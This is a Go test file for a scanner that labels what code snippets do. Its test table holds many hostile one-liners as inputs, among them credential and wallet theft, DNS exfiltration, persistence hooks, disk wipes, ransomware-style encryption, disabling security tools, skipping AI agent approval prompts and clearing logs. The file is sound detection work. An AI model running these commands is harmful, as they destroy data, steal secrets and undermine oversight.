package flow_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/skillpm/skillpm/pkg/internal/scan/flow"
)

// quietKinds are facts of nearly all code, which the tables leave out unless they want them.
var quietKinds = []flow.Kind{flow.Runs, flow.WritesFile, flow.ReadsFile, flow.Decodes, flow.RunsComputed, flow.RunsFile}

func factsOf(name, code string, quiet bool) string {
	var got []string
	for _, f := range flow.Analyze([]flow.File{{Path: name, Data: []byte(code)}}).All {
		if quiet && slices.Contains(quietKinds, f.Kind) {
			continue
		}
		text := f.Kind.String()
		if f.Detail != "" {
			text += " " + f.Detail
		}
		got = append(got, text)
	}
	slices.Sort(got)
	return strings.Join(slices.Compact(got), ", ")
}

// TestFacts checks what code reads, writes, destroys, and switches off, and what is similar and harmless.
func TestFacts(t *testing.T) {
	for _, tt := range []struct{ name, code, want string }{
		// Secrets.
		{"a.sh", "cat ~/.aws/credentials\n", "reads-key ~/.aws/credentials"},
		{"a.py", "import os\nk = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_ed25519')).read()\n", "reads-key ~/.ssh/id_ed25519"},
		{"a.js", "const fs = require('fs')\nconst k = fs.readFileSync(`${process.env.HOME}/.kube/config`)\n", "reads-key ~/.kube/config"},
		{"a.ps1", "Get-Content \"$env:USERPROFILE\\.docker\\config.json\"\n", "reads-key ~/.docker/config.json"},
		{"a.sh", "cat ~/.ssh/id_rsa.pub\ncat ~/.ssh/config\n", ""},
		{"a.py", "print('keep ~/.ssh/id_rsa private')\n", ""},
		{"a.sh", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x\n", "downloads http://169.254.169.254/latest/meta-data/iam/security-credentials/x, reads-key http://169.254.169.254/latest/meta-data/iam/security-credentials/x"},
		{"a.sh", "ssh -i ~/.ssh/id_rsa user@host.acme.dev uptime\n", "connects host.acme.dev"},
		// Browsers, wallets, keychains, and histories.
		{"a.py", "import shutil\nshutil.copy('/home/u/.config/google-chrome/Default/Login Data', '/tmp/x')\n", "reads-browser /home/u/.config/google-chrome/Default/Login Data"},
		{"a.sh", "cp ~/Library/Application\\ Support/Google/Chrome/Default/Cookies /tmp/c\n", "reads-browser ~/Library/Application Support/Google/Chrome/Default/Cookies"},
		{"a.py", "import browser_cookie3\nj = browser_cookie3.chrome()\n", "reads-browser browser_cookie3.chrome"},
		{"a.sh", "open -a 'Google Chrome' https://acme.dev\n", ""},
		{"a.sh", "cat ~/.bitcoin/wallet.dat\n", "reads-wallet ~/.bitcoin/wallet.dat"},
		{"a.js", "import { readFileSync } from 'fs'\nreadFileSync('/root/.config/solana/id.json')\n", "reads-wallet /root/.config/solana/id.json"},
		{"a.py", "from pathlib import Path\nPath('~/.ethereum/keystore/k').expanduser().read_text()\n", "reads-wallet ~/.ethereum/keystore/k"},
		{"a.py", "wallet = load('wallet.json')\n", ""},
		{"a.sh", "security find-generic-password -s acme -w\n", "reads-keychain security find-generic-password"},
		{"a.sh", "secret-tool lookup service acme\n", "reads-keychain secret-tool lookup"},
		{"a.sh", "tar c ~/Library/Keychains > k.tar\n", "reads-keychain ~/Library/Keychains"},
		{"a.sh", "security list-keychains\n", ""},
		{"a.sh", "tail -n 100 ~/.bash_history\n", "reads-history ~/.bash_history"},
		{"a.py", "import os\nopen(os.path.expanduser('~/.zsh_history')).readlines()\n", "reads-history ~/.zsh_history"},
		{"a.sh", "history | grep token\n", "reads-history history"},
		{"a.sh", "git log --oneline\n", ""},
		// Environment.
		{"a.sh", "env | sort\n", "reads-environment"},
		{"a.py", "import os, json\njson.dumps(dict(os.environ))\n", "reads-environment"},
		{"a.js", "const all = JSON.stringify({ ...process.env })\n", "reads-environment"},
		{"a.ps1", "Get-ChildItem env: | Out-File all.txt\n", "reads-environment"},
		{"a.sh", "env FOO=1 make\n", ""},
		{"a.py", "import os, subprocess\nsubprocess.run(['make'], env=os.environ)\n", ""},
		{"a.py", "import os\nk = os.environ['ACME_KEY']\n", "reads-variable ACME_KEY"},
		{"a.ts", "const { ACME_TOKEN: token } = process.env\n", "reads-variable ACME_TOKEN"},
		{"a.rb", "key = ENV['ACME_KEY']\n", "reads-variable ACME_KEY"},
		{"a.sh", "echo $HOME $PATH $name\n", ""},
		{"a.py", "from dotenv import dotenv_values\nc = dotenv_values('.env')\n", "reads-dotenv .env"},
		{"a.sh", "grep KEY .env\n", "reads-dotenv .env"},
		{"a.js", "require('fs').readFileSync('.env.local', 'utf8')\n", "reads-dotenv .env.local"},
		{"a.sh", "cp .env.example .env\n", ""},
		// The agent, clipboards, and homes.
		{"a.sh", "cat ~/.claude/projects/x/y.jsonl\n", "reads-agent ~/.claude/projects/x/y.jsonl"},
		{"a.py", "import os\nopen(os.path.expanduser('~/.codex/auth.json')).read()\n", "reads-agent ~/.codex/auth.json"},
		{"a.sh", "cat MEMORY.md\n", "reads-agent MEMORY.md"},
		{"a.sh", "cat references/memory-model.md\n", ""},
		{"a.sh", "pbpaste > x\n", "reads-clipboard pbpaste"},
		{"a.py", "import pyperclip\nx = pyperclip.paste()\n", "reads-clipboard pyperclip.paste"},
		{"a.ps1", "$x = Get-Clipboard\n", "reads-clipboard get-clipboard"},
		{"a.sh", "echo x | pbcopy\n", ""},
		{"a.sh", "find ~ -name '*.pem'\n", "reads-home ~"},
		{"a.py", "import os\nfor d, _, fs in os.walk(os.path.expanduser('~')):\n    pass\n", "reads-home ~"},
		{"a.py", "from pathlib import Path\nl = list(Path.home().rglob('*.key'))\n", "reads-home ~"},
		{"a.py", "from pathlib import Path\nl = list(Path('src').rglob('*.key'))\n", ""},
		// The network.
		{"a.sh", "curl -s https://user:pw@api.acme.com/v1?token=x\n", "downloads https://api.acme.com/v1"},
		{"a.sh", "curl -T out.zip https://up.acme.com/\n", "uploads https://up.acme.com/"},
		{"a.py", "import requests\ns = requests.Session()\ns.post('https://api.acme.com/x', json={})\n", "uploads https://api.acme.com/x"},
		{"a.py", "import httpx\nwith httpx.Client(base_url='https://api.acme.com') as c:\n    c.get('/x')\n", "downloads https://api.acme.com/x"},
		{"a.py", "import http.client\nc = http.client.HTTPSConnection('api.acme.com')\nc.request('POST', '/x', b'')\n", "uploads https://api.acme.com/x"},
		{"a.js", "const r = await fetch(`https://${org}.acme.com/x`)\n", "downloads https://….acme.com/x"},
		{"a.py", "import smtplib\ns = smtplib.SMTP('mail.acme.com', 25)\ns.sendmail(a, b, c)\n", "mails mail.acme.com"},
		{"a.py", "def get(requests): return requests['x']\nd = {}.get('https://x.acme.com')\n", ""},
		{"a.py", "from flask import request\nx = request.args.get('q')\n", ""},
		{"a.js", "const http = require('http')\nhttp.createServer(h).listen(80)\n", ""},
		{"a.sh", "dig $(whoami | base64).x.acme-dns.net\n", "looks-up ….x.acme-dns.net"},
		{"a.py", "import socket\nsocket.gethostbyname(f'{data}.x.acme-dns.net')\n", "looks-up ….x.acme-dns.net"},
		{"a.sh", "dig acme.com\n", ""},
		// Writes.
		{"a.sh", "echo '(/tmp/x &)' >> ~/.bashrc\n", "persists ~/.bashrc"},
		{"a.sh", "(crontab -l; echo '* * * * * /tmp/x') | crontab -\n", "persists crontab"},
		{"a.py", "import os\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n    f.write(k)\n", "persists ~/.ssh/authorized_keys"},
		{"a.sh", "cat > .git/hooks/pre-commit <<'E'\nx\nE\n", "persists .git/hooks/pre-commit"},
		{"a.ps1", "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value y\n", "persists registry Run key"},
		{"a.sh", "echo 'export PATH=\"$HOME/.acme/bin:$PATH\"' >> ~/.bashrc\n", "writes ~/.bashrc"},
		{"a.sh", "git config --global core.hooksPath ~/.x\n", "persists git config core.hooksPath"},
		{"a.sh", "git config user.name x\n", ""},
		{"a.sh", "git remote add backup https://u:p@git.acme.dev/x.git\n", "connects https://git.acme.dev/x.git"},
		{"a.sh", "crontab -l\n", ""},
		{"a.sh", "cat ~/.bashrc\n", ""},
		{"a.sh", "echo x >> CLAUDE.md\n", "writes-agent CLAUDE.md"},
		{"a.py", "from pathlib import Path\nPath('~/.claude/settings.json').expanduser().write_text('{}')\n", "writes-agent ~/.claude/settings.json"},
		{"a.js", "require('fs').appendFileSync('AGENTS.md', x)\n", "writes-agent AGENTS.md"},
		{"a.sh", "claude mcp add x -- npx y\n", "writes-agent claude mcp add"},
		{"a.sh", "claude mcp list\n", ""},
		{"a.sh", "cp x.md ~/.claude/skills/other/SKILL.md\n", "writes-skill ~/.claude/skills/other/SKILL.md"},
		{"a.sh", "cp CLAUDE.md /tmp/\n", ""},
		{"a.sh", "cp a /etc/acme.conf\n", "writes /etc/acme.conf"},
		{"a.sh", "echo x > out/report.md 2> /dev/null\n", ""},
		// Variables of functions, and imports.
		{
			"a.js", "let u = 'https://a.acme.dev'\nfunction f() { function g(u) { u = 'https://b.acme.dev' } }\nfetch(u)\n",
			"downloads https://a.acme.dev",
		},
		{
			"a.js", "let u = 'https://a.acme.dev'\nfunction f() { u = 'https://b.acme.dev' }\nfetch(u)\n",
			"downloads https://b.acme.dev",
		},
		{
			"a.py", "u = 'https://a.acme.dev'\ndef f(u):\n    u = 'https://b.acme.dev'\nimport requests\nrequests.get(u)\n",
			"downloads https://a.acme.dev",
		},
		{
			"a.js", "import x\nimport fs from 'fs'\nfs.readFileSync('/root/.config/solana/id.json')\n",
			"reads-wallet /root/.config/solana/id.json",
		},
		{"a.ts", "const f = (a): string[] => fetch('https://a.acme.dev')\n", "downloads https://a.acme.dev"},
		// Destruction.
		{"a.sh", "rm -rf ~/\n", "deletes ~/"},
		{"a.sh", "sudo rm -rf --no-preserve-root /\n", "deletes /, elevates sudo"},
		{"a.sh", "rm -rf --preserve-root /\n", ""},
		{"a.sh", "rm -rf --preserve-root /*\n", "deletes /*"},
		{"a.py", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n", "deletes ~"},
		{"a.sh", "cd /srv && rm -rf ./* ../*\n", "deletes ../*, deletes ./*"},
		{"a.sh", "find ~ -name '*.md' -delete\n", "deletes ~, reads-home ~"},
		{"a.sh", "find . -name '*.pyc' -delete\n", ""},
		{"a.sh", "rm -rf build/ ./node_modules \"$TMP\"/x\n", ""},
		{"a.sh", "dd if=/dev/zero of=/dev/sda\n", "wipes /dev/sda"},
		{"a.sh", "P=$(gcloud config get-value project)\n", ""},
		{"a.sh", "mkfs.ext4 /dev/sda1\n", "wipes mkfs.ext4"},
		{"a.sh", "mkfs.ext4 /dev/sdb1\n", ""},
		{"a.md", "```sh\nmkfs.ext4 /dev/sda1\n```\n", ""},
		{"a.md", "```sh\nmkfs.ext4 /dev/sda\n```\n", "wipes mkfs.ext4"},
		{"a.sh", "mkfs.ext4 /dev/data_vg/files_lv\n", ""},
		{"a.sh", "gpg --dearmor < k.gpg > /usr/share/keyrings/acme.gpg\n", "writes /usr/share/keyrings/acme.gpg"},
		{"a.sh", "cat x > /dev/nvme0n1\n", "wipes /dev/nvme0n1"},
		{"a.sh", "dd if=/dev/zero of=img bs=1M count=1\n", ""},
		{"a.sh", "git push --force origin main\n", "rewrites-git git push --force origin main"},
		{"a.sh", "git push --force-with-lease\n", ""},
		{"a.sh", "psql -c 'drop database acme'\n", "drops-database DROP DATABASE"},
		{"a.py", "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(k)\nfor d, _, names in os.walk(root):\n    for n in names:\n        p = os.path.join(d, n)\n        data = open(p, 'rb').read()\n        open(p, 'wb').write(f.encrypt(data))\n", "encrypts-files"},
		{"a.py", "from cryptography.fernet import Fernet\nf = Fernet(k)\nopen('x.enc', 'wb').write(f.encrypt(open('x', 'rb').read()))\n", ""},
		// Privileges and protection.
		{"a.sh", "sudo -n apt-get install -y jq\n", "elevates sudo"},
		{"a.sh", "chmod 777 /srv/x; chmod u+s ./x\n", "loosens 777, loosens u+s"},
		{"a.py", "import os\nos.chmod('x', 0o777)\n", "loosens 0o777"},
		{"a.sh", "chmod 755 x; chmod +x y\n", ""},
		{"a.sh", "curl -k https://api.acme.com\n", "downloads https://api.acme.com, unverified --insecure"},
		{"a.py", "import requests\nrequests.get('https://api.acme.com', verify=False)\n", "downloads https://api.acme.com, unverified verify=False"},
		{"a.js", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'\n", "unverified process.env.NODE_TLS_REJECT_UNAUTHORIZED"},
		{"a.py", "import requests\nrequests.get('https://api.acme.com', verify='ca.pem')\n", "downloads https://api.acme.com"},
		{"a.sh", "ufw disable\n", "disables-guard ufw disable"},
		{"a.sh", "setenforce 0\nxattr -d com.apple.quarantine ./x\n", "disables-guard setenforce 0, disables-guard xattr (quarantine)"},
		{"a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true\n", "disables-guard Set-MpPreference -DisableRealtimeMonitoring …"},
		{"a.sh", "ufw status\nsystemctl stop nginx\n", ""},
		{"a.sh", "claude -p x --dangerously-skip-permissions\n", "skips-approval --dangerously-skip-permissions"},
		{"a.py", "import subprocess\nsubprocess.run(['codex', '--yolo', 'x'])\n", "skips-approval --yolo"},
		{"a.js", "const { spawn } = require('child_process')\nspawn('claude', ['--dangerously-skip-permissions'])\n", "skips-approval --dangerously-skip-permissions"},
		{"a.sh", "echo 'never use --dangerously-skip-permissions'\n", ""},
		{"a.sh", "history -c; unset HISTFILE\nrm -rf /var/log/audit/*\n", "reads-history history, suppresses-logs /var/log/audit/*, suppresses-logs HISTFILE, suppresses-logs history -c"},
	} {
		if got := factsOf(tt.name, tt.code, true); got != tt.want {
			t.Errorf("%s: %q:\n  %s\nwant\n  %s", tt.name, tt.code, got, tt.want)
		}
	}
}

// TestValidBash checks which files need not be parsed again.
func TestValidBash(t *testing.T) {
	for _, tt := range []struct {
		name, code string
		want       bool
	}{
		{"a.sh", "#!/bin/bash\nif true; then echo 1; fi\n", true},
		{"a", "#!/usr/bin/env bash\necho 1\n", true},
		{"a.sh", "if true; then\n", false},
		{"a.sh", "echo 1\nfi\necho 2\n", false},
		{"a.sh", "bash -c 'if true; then'\n", false}, // not known, because code in it is not valid
		{"a.py", "print(1)\n", false},
		{"a.md", "```sh\necho 1\n```\n", false},
	} {
		if got := flow.Summarize(flow.File{Path: tt.name, Data: []byte(tt.code)}).ValidBash(); got != tt.want {
			t.Errorf("%s: %q: %t", tt.name, tt.code, got)
		}
	}
}
